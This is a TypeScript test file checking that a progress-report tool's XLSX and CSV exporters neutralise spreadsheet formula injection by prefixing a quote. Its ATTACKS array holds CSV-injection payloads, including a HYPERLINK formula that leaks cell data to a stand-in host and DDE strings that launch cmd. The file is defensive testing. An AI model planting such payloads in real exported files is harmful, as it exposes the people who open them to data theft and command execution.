import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { planActions } from '../../src/domain/plan.js';
import { ProgressReportSchema, type ProgressReport } from '../../src/domain/progress-report.js';
import { neutraliseCell } from '../../src/report/report-style.js';
import { writeFlatCsv } from '../../src/report/write-flat-csv.js';
import { writeProgressCsv } from '../../src/report/write-progress-csv.js';
import { writeProgressXlsx } from '../../src/report/write-progress-xlsx.js';
import { readPlanFile } from '../../src/services/read-plan-file.js';

/** Cell starts a spreadsheet would run as a formula (OWASP "CSV injection"). */
const ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
const DANGEROUS = /^[=+\-@\t\r]/;

function report(): ProgressReport {
  return ProgressReportSchema.parse({
    title: 'Injection test plan 2026-27',
    asAt: '2026-11-24',
    roles: [],
    priorities: [
      {
        number: 1,
        title: 'Antisocial behaviour',
        corporatePriority: null,
        actions: ATTACKS.map((attack, i) => ({
          ref: `1.${i + 1}`,
          action: attack,
          measure: attack,
          outcome: attack,
          resources: `Lead – CSO\n${attack}`,
          deadlineText: 'March 2027',
          deadline: '2027-03-31',
          status: 'not-completed',
          update: '- two events held, not four',
          cspAction: false,
        })),
      },
    ],
  });
}

describe('cells a spreadsheet would run as formulas', () => {
  it('get a leading quote, and only those', () => {
    for (const attack of ATTACKS) expect(neutraliseCell(attack)).toBe(`'${attack}`);
    for (const safe of ['1.1 Deliver', 'COMPLETED\n- two events held', 'Lead – CSO', '', 'a = b', '£5']) expect(neutraliseCell(safe)).toBe(safe);
  });

  it('are neutralised in the workbook, which holds no formula at all', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await writeProgressXlsx(report())) as unknown as ArrayBuffer);
    const texts: string[] = [];
    for (const sheet of book.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    }
    expect(texts.filter((t) => DANGEROUS.test(t))).toEqual([]);
    // XML reads a raw carriage return back as a line feed.
    const written = (attack: string): string => `'${attack}`.replace(/\r/g, '\n');
    for (const attack of ATTACKS) expect(texts.filter((t) => t === written(attack))).toHaveLength(3); // action, measure and outcome
    expect(texts).toContain('NOT COMPLETED\n- two events held, not four');
  });

  it('are neutralised in the CSV, where every cell is text', () => {
    const bytes = writeProgressCsv(report());
    const records = parse(new TextDecoder().decode(bytes), { bom: true, relax_column_count: true }) as string[][];
    const cells = records.flat();
    expect(cells.filter((t) => DANGEROUS.test(t))).toEqual([]);
    for (const attack of ATTACKS) expect(cells).toContain(`'${attack}`);
    // The action's number starts its cell, so the action text needs no quote there.
    expect(cells).toContain(`1.1 ${ATTACKS[0]}`);
    expect(cells).toContain('NOT COMPLETED\n- two events held, not four');
  });

  it('are neutralised in the flat CSV too, where the action text starts its own cell', () => {
    const cells = (parse(new TextDecoder().decode(writeFlatCsv(report())), { bom: true }) as string[][]).flat();
    expect(cells.filter((t) => DANGEROUS.test(t))).toEqual([]);
    for (const attack of ATTACKS) expect(cells).toContain(`'${attack}`);
  });

  it('still read back as the text that was written, quote and all', async () => {
    for (const [name, bytes] of [
      ['progress.xlsx', await writeProgressXlsx(report())],
      ['progress.csv', writeProgressCsv(report())],
    ] as const) {
      const actions = planActions((await readPlanFile(bytes, name)).plans[0]!);
      expect(actions.map((a) => a.measure.startsWith("'"))).toEqual(ATTACKS.map(() => true));
      expect(actions[0]!.measure).toBe(`'${ATTACKS[0]}`);
      expect(actions.map((a) => a.status)).toEqual(ATTACKS.map(() => 'not-completed'));
      expect(actions[0]!.update).toBe('two events held, not four');
    }
  });
});
